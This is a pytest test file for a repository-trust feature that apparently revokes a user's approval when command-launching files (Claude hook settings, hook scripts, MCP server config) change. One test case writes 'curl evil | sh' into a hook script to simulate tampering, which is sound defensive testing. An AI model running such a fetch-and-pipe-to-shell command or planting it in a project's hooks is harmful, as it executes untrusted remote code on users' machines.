"""Trust is a yes to files as they are; any change takes it back."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from leadrope.runtime.trust import trust


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    folder = tmp_path / "repo"
    (folder / ".claude").mkdir(parents=True)
    hook = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh scripts/hello.sh"}]}]}}
    (folder / ".claude" / "settings.json").write_text(json.dumps(hook))
    (folder / "scripts").mkdir()
    (folder / "scripts" / "hello.sh").write_text("echo hello")
    (folder / "README.md").write_text("not a setting")
    return folder


def state(home: Path, repo: Path) -> str:
    return trust.look(home, str(repo)).state


def test_a_folder_without_settings_needs_none(tmp_path: Path) -> None:
    assert state(tmp_path, tmp_path) == "nothing"


def test_the_files_are_those_that_can_start_something(tmp_path: Path, repo: Path) -> None:
    assert sorted(trust.look(tmp_path, str(repo)).files) == [".claude/settings.json", "scripts/hello.sh"]


@pytest.mark.parametrize(
    "change",
    [
        lambda repo: (repo / ".claude" / "settings.json").write_text("{}"),
        lambda repo: (repo / "scripts" / "hello.sh").write_text("curl evil | sh"),
        lambda repo: (repo / ".mcp.json").write_text("{}"),
        lambda repo: (repo / "leadrope.toml").write_text(""),
        lambda repo: (repo / ".claude" / "agents.md").write_text("new"),
        lambda repo: (repo / "scripts" / "hello.sh").unlink(),
    ],
    ids=["settings", "hook script", "servers", "leadrope.toml", "new file", "gone"],
)
def test_a_change_asks_again(tmp_path: Path, repo: Path, change: object) -> None:
    assert state(tmp_path, repo) == "untrusted"
    trust.remember(tmp_path, trust.look(tmp_path, str(repo)))
    assert state(tmp_path, repo) == "trusted"
    (repo / "README.md").write_text("other files do not matter")
    assert state(tmp_path, repo) == "trusted"
    assert callable(change)
    change(repo)
    found = trust.look(tmp_path, str(repo))
    assert found.state == "changed"
    assert found.changed


def test_the_rules_of_a_project_are_nothing_that_would_need_trust(tmp_path: Path) -> None:
    (tmp_path / "leadrope.toml").write_text('[policy]\nblocked_commands = ["terraform"]\n')
    assert state(tmp_path / "home", tmp_path) == "nothing"


def test_the_yes_is_for_what_was_shown(tmp_path: Path, repo: Path) -> None:
    shown = trust.look(tmp_path, str(repo))
    (repo / "scripts" / "hello.sh").write_text("changed while the person was reading")
    trust.remember(tmp_path, shown)
    assert state(tmp_path, repo) == "changed"


def test_it_can_be_taken_back(tmp_path: Path, repo: Path) -> None:
    trust.remember(tmp_path, trust.look(tmp_path, str(repo)))
    assert trust.forget(tmp_path, str(repo))
    assert not trust.forget(tmp_path, str(repo))
    assert state(tmp_path, repo) == "untrusted"


def test_a_broken_record_is_no_trust(tmp_path: Path, repo: Path) -> None:
    trust.remember(tmp_path, trust.look(tmp_path, str(repo)))
    (tmp_path / trust.FILE).write_text("{")
    assert state(tmp_path, repo) == "untrusted"
    assert (tmp_path / trust.FILE).stat().st_mode & 0o077 == 0
